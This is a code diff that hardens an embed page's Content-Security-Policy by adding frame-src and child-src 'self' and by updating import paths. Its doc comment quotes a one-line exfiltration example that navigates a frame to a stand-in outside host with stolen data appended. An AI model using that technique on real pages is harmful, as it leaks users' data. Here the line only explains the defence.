@@ -1,8 +1,8 @@
 import { digestSecret } from '../accounts/accounts.keys.js';
 import { CONSOLE_SESSION_PREFIX } from '../accounts/accounts.console.js';
 import { findEmbedAccountSettings } from '../accounts/accounts.store.js';
-import { isoTimestamp } from '../http/http.context.js';
-import type { ServiceContext } from '../http/http.context.js';
+import { isoTimestamp } from '../core/core.context.js';
+import type { ServiceContext } from '../core/core.context.js';
 import { SESSION_ID_PREFIX } from '../sessions/sessions.service.js';
 import { findAccountOfConsoleDigest, findAccountOfDeployment, findAccountOfPublicId, findAccountOfSessionDigest } from './embed.store.js';
 
@@ -54,6 +54,12 @@ export async function describeEmbedPage(ctx: ServiceContext, request: EmbedPageR
  * The page's Content-Security-Policy. `frame-ancestors` lists exactly the allowed origins ('none' when there are
  * none: an account that allowed no host cannot be framed at all). Scripts, styles and requests stay on svc's
  * own origin; the page's config travels as inert JSON, so no inline script is needed.
+ *
+ * `frame-src 'self'` is what keeps an APP dashboard's code from sending data away by navigating its own frame
+ * (`location.href = 'https://elsewhere/?' + data`): a frame cannot be stopped from navigating itself (CSP
+ * `navigate-to` never shipped, and the Navigation API sends no `navigate` event to the app frame's opaque origin),
+ * but every navigation of a frame is checked against its parent's `frame-src`, so one to another origin is
+ * refused before any request leaves (e2e/app-sandbox.test.ts).
  */
 export function embedContentSecurityPolicy(allowedOrigins: readonly string[]): string {
   const ancestors = allowedOrigins.length === 0 ? "'none'" : allowedOrigins.join(' ');
@@ -65,6 +71,8 @@ export function embedContentSecurityPolicy(allowedOrigins: readonly string[]): s
     "connect-src 'self'",
     "font-src 'self' data:",
     "object-src 'none'",
+    "frame-src 'self'",
+    "child-src 'self'",
     "base-uri 'none'",
     "form-action 'none'",
     `frame-ancestors ${ancestors}`,
